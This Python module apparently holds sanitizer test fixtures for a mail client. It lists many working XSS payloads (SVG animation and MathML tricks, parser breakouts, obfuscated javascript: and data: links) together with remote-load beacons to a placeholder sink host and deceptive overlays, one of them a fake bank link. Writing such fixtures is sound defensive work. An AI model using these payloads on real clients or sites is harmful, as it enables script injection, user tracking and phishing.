# ruff: noqa: E501  (a payload is one line)
"""HTML that tries to run, to load, to leave its frame or to lead astray, after what mail programs
were found open to. `{sink}` is a server that must never be asked, `{run}` code that tells on
itself.
"""

from typing import Final

RUN: Final = "top.document.title=document.title='owned';alert(1);new Image().src='{sink}/ran'"

SVG: Final = (  # 71, 72, 74
    "<svg><a><animate attributeName=href values=javascript:{run} /><text x=20 y=20>x</text></a></svg>",
    '<svg><a><set attributeName="href " to="javascript:{run}"/><text y=9>x</text></a></svg>',
    "<svg><a><animate attributeName=href from=javascript:{run} to=1 /></a></svg>",
    "<svg><a><animate attributeName=xlink:href by=javascript:{run} keytimes=0 /></a></svg>",
    '<svg><animate onbegin="{run}" attributeName=x dur=1s></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>',
    '<svg><use href="data:image/s vg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>',
    '<svg><use href="data:image/svg\t+xml,\n<svg onload={run}>"/></svg>',
    '<svg onload="{run}"><desc><img src=x onerror="{run}"></desc></svg>',
    '<svg><style><img src=x onerror="{run}"></style></svg>',
    '<svg><style>/*</style><img src=x onerror="{run}">*/</style></svg>',
    '<svg><![CDATA[><image href="{sink}/cdata" onerror="{run}"/>]]></svg>',
    '<title><style></title><img src=x onerror="{run}"></style>',
    "<svg><title><a title=\"</title><img src=x onerror='{run}'>\">",
    '<style><!--</style><img src=x onerror="{run}">--></style>',
)
NAMESPACES: Final = (  # 73
    '<svg xmlns="&quot; onload={run} x=&quot;">x</svg>',
    '<math><x href="javascript:{run}">x</x></math>',
    '<math><mstyle href="javascript:{run}">x</mstyle></math>',
    '<math><msubsup><mi HREF="javascript:{run}">x</mi></msubsup></math>',
    '<math><ms HREF="javascript:{run}">x</ms></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror="{run}"></annotation-xml></math>',
)
BREAKOUTS: Final = (  # 75, 82
    '<svg fill=\'asd:url(#asd)" src="x" onerror="{run}\'>x</svg>',
    "<div style=\"fill:'asd:url(#asd)&quot; onmouseover=&quot;{run}'\">x</div>",
    '<a href="https://x.invalid/&quot; onmouseover=&quot;{run}" title="</a><img src=x onerror=1>">x</a>',
    '<a title="</a><img src=x onerror={run}>" href="https://x.invalid">paypal.com</a>',
    '<img alt="></a><script>{run}</script>" src="#blocked">',
    "<p title=\"</p><img src=x onerror='{run}'>\">x</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="{run}">',
    '<svg></p><style><a id="</style><img src=1 onerror={run}>">',
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    '<xmp><p title="</xmp><img src=x onerror={run}>">',
    '<select><template><img src=x onerror="{run}"></template></select>',
    '<template><s><template><s><img src=x onerror="{run}">@</s></template></s></template>',
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "<script>{run}</script><body onload='{run}'><img src=x onerror='{run}'>",
)
LOADS: Final = (  # 76
    '<svg><filter><feImage href="{sink}/fe"/></filter><image href="{sink}/image"/></svg>',
    '<svg><rect fill="url({sink}/fill" /><rect mask="url({sink}/mask)" cursor="url({sink}/c)"/></svg>',
    '<svg><animate attributeName=filter values="url({sink}/animated)"/></svg>',
    '<body background="data:image/png;base64,x;background:url({sink}/body)">x',
    "<body style=\"background:url('{sink}/style')\">x",
    '<div style="--x: url({sink}/var); background: var(--x, url({sink}/fallback))">x</div>',
    "<div style=\"background-image: image('{sink}/image')\">x</div>",
    "<div style=\"background-image: image-set('{sink}/set' 1x)\">x</div>",
    '<div style="background: cross-fade(url({sink}/fade), red)">x</div>',
    '<div style="background: \\0075rl({sink}/escape)">x</div>',
    '<div style="background: u\\72l({sink}/escape2); list-style: url({sink}/list)">x</div>',
    '<div style="background: url({sink}/plain) no-repeat">x</div>',
    "<style>@import '{sink}/import'; @import url({sink}/import2);</style>",
    "<style>@font-face {{ font-family: a; src: url({sink}/font) }} p {{ font-family: a }}</style><p>x",
    "<style>p {{ background: url({sink}/rule); content: url({sink}/content) }}</style><p>x",
    "<style>@media screen {{ p {{ background: URL( '{sink}/media' ) }} }}</style><p>x",
    '<link rel=stylesheet href="{sink}/sheet"><link rel=prefetch href="{sink}/prefetch">',
    '<link rel=dns-prefetch href="//sink.invalid"><link rel=preconnect href="{sink}">',
    '<img srcset="{sink}/set 1x, {sink}/set2 2x"><picture><source srcset="{sink}/source"></picture>',
    '<img src="{sink}/img"><img src="{sink}/lazy" loading=lazy><img src=" {sink}/blank">',
    '<video poster="{sink}/poster" autoplay><source src="{sink}/video"></video><audio src="{sink}/a">',
    '<input type=image src="{sink}/input"><table background="{sink}/table"><tr><td>x</table>',
    '<object data="{sink}/object"></object><embed src="{sink}/embed"><iframe src="{sink}/frame">',
    '<meta http-equiv=refresh content="0;url={sink}/refresh"><base href="{sink}/">',
    '<form action="{sink}/form"><input autofocus onfocus="this.form.submit()"></form>',
    '<a href="https://x.invalid" ping="{sink}/ping">x</a><blockquote cite="{sink}/cite">x</blockquote>',
)
OVERLAYS: Final = (  # 77
    '<div style="position:fixed;inset:0;background:red;z-index:999">over</div>',
    '<div style="position:/**/fixed !important;top:0;left:0;width:9999px;height:9999px">over</div>',
    '<div style="p\\6fsition:fixed;top:-500px">over</div>',
    "<style>:root {{ position: fixed; top: -900px; z-index: 9 }} body {{ margin: -500px }}</style>x",
    "<style>* {{ position: fixed !important }} .mh-note {{ display: none !important }}</style>"
    '<a href="https://evil.invalid/">www.bank.example</a>',
)
LINKS: Final = (  # 78
    '<a href="javascript:{run}">x</a>',
    '<a href="java\tscript:{run}">x</a><a href="java&#10;script:{run}">x</a>',
    '<a href="&#106;avascript:{run}">x</a><a href=" \x01javascript:{run}">x</a>',
    '<a href="vbscript:{run}">x</a><a href="JaVaScRiPt&colon;{run}">x</a>',
    '<a href="data:text/html,<script>{run}</script>">x</a>',
    '<a href="data:application/xhtml+xml,<script>{run}</script>">x</a>',
    '<map name=m><area href="javascript:{run}" shape=default></map><img usemap="#m">',
    '<a href="blob:{sink}/x">x</a><a href="filesystem:{sink}/x">x</a><a href="file:///etc/passwd">x</a>',
)
HTML: Final = (*SVG, *NAMESPACES, *BREAKOUTS, *LOADS, *OVERLAYS, *LINKS)

TEXTS: Final = (  # 79
    'http://a"onmouseover="{run}',
    "https://a.invalid/'onclick='{run}'<img src=x onerror={run}>",
    "<script>{run}</script> javascript:{run} data:text/html,<script>{run}</script>",
    "> <img src=x onerror={run}>\r\n> [x](javascript:{run})",
)
